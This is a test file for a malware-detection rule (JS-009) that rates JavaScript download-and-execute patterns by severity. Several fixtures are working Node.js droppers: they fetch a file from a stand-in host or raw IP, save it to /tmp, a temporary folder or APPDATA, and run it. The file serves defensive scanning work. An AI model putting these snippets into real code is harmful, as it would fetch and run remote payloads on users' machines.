import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-009 download-and-execute', () => {
  it('rates a raw-IP download that is written and run high', async () => {
    const code = `const http = require('http'), fs = require('fs'), cp = require('child_process');
      http.get('http://192.0.2.1/p', r => { r.pipe(fs.createWriteStream('/tmp/p')); fs.chmodSync('/tmp/p', 0o755); cp.spawn('/tmp/p'); });`;
    const f = await ruleFindings('JS-009', code);
    expect(f[0]?.severity).toBe('high');
    expect(f[0]?.iocs).toContain('http://192.0.2.1/p');
  });
  it('rates an HTTPS binary installer low', async () => {
    const code = `const https = require('https'), fs = require('fs'), cp = require('child_process');
      https.get('https://registry.example.invalid/pkg-' + process.platform + '.tgz', r => { fs.writeFileSync(bin, r); cp.execFileSync(bin, ['--version']); });`;
    const f = await ruleFindings('JS-009', code);
    expect(f[0]?.severity).toBe('low');
  });
  it('rates running the file it wrote to a temporary or hidden folder high, even from an HTTPS host', async () => {
    const cases = [
      `const https = require('https'), fs = require('fs'), { execSync } = require('child_process');
        https.get('https://x.invalid/p', (r) => { const f = fs.createWriteStream('/tmp/p'); r.pipe(f);
          f.on('finish', () => { fs.chmodSync('/tmp/p', 0o755); execSync('/tmp/p'); }); });`,
      `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
        const dest = path.join(os.tmpdir(), 'update.bin');
        https.get('https://x.invalid/u', (r) => { r.pipe(fs.createWriteStream(dest)).on('finish', () => cp.spawn(dest, [], { detached: true })); });`,
      `const https = require('https'), fs = require('fs'), cp = require('child_process');
        const exe = require('path').join(process.env.APPDATA, 'svc.exe');
        https.get('https://x.invalid/w', (r) => { fs.writeFileSync(exe, r); cp.exec(exe); });`,
    ];
    for (const code of cases) {
      const f = await ruleFindings('JS-009', code);
      expect(f[0]?.severity, code).toBe('high');
      expect(String(f[0]?.evidence?.runsStagedFile)).toMatch(/p$|update\.bin$|svc\.exe$/);
    }
  });
  it('an installer that unpacks into the package, or runs tar on a temp archive, stays low', async () => {
    const unpack = `const https = require('https'), fs = require('fs'), path = require('path'), cp = require('child_process');
      const bin = path.join(__dirname, 'bin', 'tool');
      https.get('https://x.invalid/tool', (r) => { fs.writeFileSync(bin, r); fs.chmodSync(bin, 0o755); cp.execFileSync(bin, ['--version']); });`;
    expect((await ruleFindings('JS-009', unpack))[0]?.severity).toBe('low');
    const tar = `const https = require('https'), fs = require('fs'), cp = require('child_process');
      https.get('https://x.invalid/t.tgz', (r) => { fs.writeFileSync('/tmp/t.tgz', r); cp.execSync('tar xzf /tmp/t.tgz -C vendor'); });`;
    expect((await ruleFindings('JS-009', tar))[0]?.severity).toBe('low');
  });
  it('a repository URL in a bundled package.json is no download source', async () => {
    const code = `const net = require('net'), fs = require('fs'), cp = require('child_process');
      const pkg = { name: 'escodegen', repository: { type: 'git', url: 'http://github.com/estools/escodegen.git' } };
      function ping(p) { return net.connect(p, 'localhost'); }
      function save(f, d) { fs.writeFileSync(f, d); }
      function run(c) { return cp.spawn(c, []); }`;
    expect((await ruleFindings('JS-009', code))[0]?.severity).toBe('low');
  });
  it('in a bundle, an address in an unrelated object literal is no download source', async () => {
    const parts = `const net = require('net'), fs = require('fs'), cp = require('child_process');
      const dnsServers = [{ host: '192.0.2.53', port: 53 }];
      function probe(p) { return net.connect(p, 'localhost'); }
      function save(f, d) { fs.writeFileSync(f, d); }
      function run(c) { return cp.spawn(c, []); }`;
    const bundle = `${parts}\n// ${'x'.repeat(210 * 1024)}\n`;
    expect((await ruleFindings('JS-009', bundle))[0]?.severity).toBe('low');
    // the same code as a small module keeps the address
    expect((await ruleFindings('JS-009', parts))[0]?.severity).toBe('high');
  });
  it('needs all three steps', async () => {
    expect(
      await ruleFindings(
        'JS-009',
        "require('https').get('http://192.0.2.1/x'); require('fs').writeFileSync('a', 'b');",
      ),
    ).toHaveLength(0);
  });
});

describe('JS-009 download sources', () => {
  it('the cloud metadata service in the same file is no download source (a cloud CLI)', async () => {
    const code = `const http = require('http'), fs = require('fs'), cp = require('child_process');
      const IMDS = 'fd00:ec2::254';
      http.get({ host: IMDS, path: '/latest/meta-data/' }, (r) => r.pipe(fs.createWriteStream('/tmp/md')));
      cp.spawn('docker', ['build', '.']);`;
    const f = await ruleFindings('JS-009', code);
    expect(f[0]?.severity).toBe('low');
    const ecs = code.replace("'fd00:ec2::254'", "'169.254.170.2'");
    expect((await ruleFindings('JS-009', ecs))[0]?.severity).toBe('low');
  });
});
